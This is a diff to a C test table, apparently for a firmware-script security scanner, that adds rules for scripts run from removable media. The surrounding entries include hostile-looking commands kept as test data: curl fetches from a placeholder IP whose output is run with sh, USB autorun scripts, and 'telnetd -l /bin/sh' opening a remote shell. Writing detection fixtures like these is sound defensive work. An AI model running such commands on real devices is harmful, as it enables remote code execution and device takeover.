@@ -84,6 +84,17 @@ static const struct {
 	{ "curl -s http://203.0.113.5/list > /tmp/list; echo start | sh /opt/app.sh", "fw.script-fetch", -1, false },
 	{ "curl -o /tmp/x -T /tmp/y http://203.0.113.5/; sh /tmp/x", "fw.script-fetch", -1, false },
 	{ "opkg update; opkg install tcpdump", "fw.script-fetch", -1, false },
+	/* media that somebody plugs in */
+	{ "[ -f /mnt/usb/autorun.sh ] && sh /mnt/usb/autorun.sh", "fw.removable-medium", SEV_MEDIUM, true },
+	{ "[ -x /media/usb0/factory/test ] && /media/usb0/factory/test", "fw.removable-medium", SEV_LOW, false },
+	{ "flashcp -v /mnt/sdcard/rootfs.bin /dev/mtd4", "fw.removable-medium", SEV_MEDIUM, true },
+	{ "tar xzf /tmp/mmc/update.tgz -C /", "fw.removable-medium", SEV_MEDIUM, true },
+	{ "cp /mnt/usb/up.sh /tmp/up.sh; sh /tmp/up.sh", "fw.removable-medium", SEV_MEDIUM, true },
+	{ "md5sum -c /mnt/usb/list; sh /mnt/usb/up.sh", "fw.removable-medium", SEV_MEDIUM, true },
+	{ "gpg --verify /mnt/usb/up.sig /mnt/usb/up.sh && sh /mnt/usb/up.sh", "fw.removable-medium", -1, true },
+	{ "cp /var/log/messages /mnt/usb/; cp /mnt/usb/wifi.conf /etc/wifi.conf; cat /mnt/usb/serial", "fw.removable-medium", -1, true },
+	{ "sh /mnt/data/app/start.sh; /tmp/usb.sh; sh /etc/hotplug/usb/start; /usr/lib/usb/modeswitch; /mnt/mtd/run", "fw.removable-medium",
+	  -1, true },
 	/* F9 */
 	{ "telnetd -l /bin/sh", "fw.remote-shell", SEV_CRITICAL, true },
 	{ "[ -f /etc/debug ] && telnetd", "fw.remote-shell", SEV_HIGH, true },
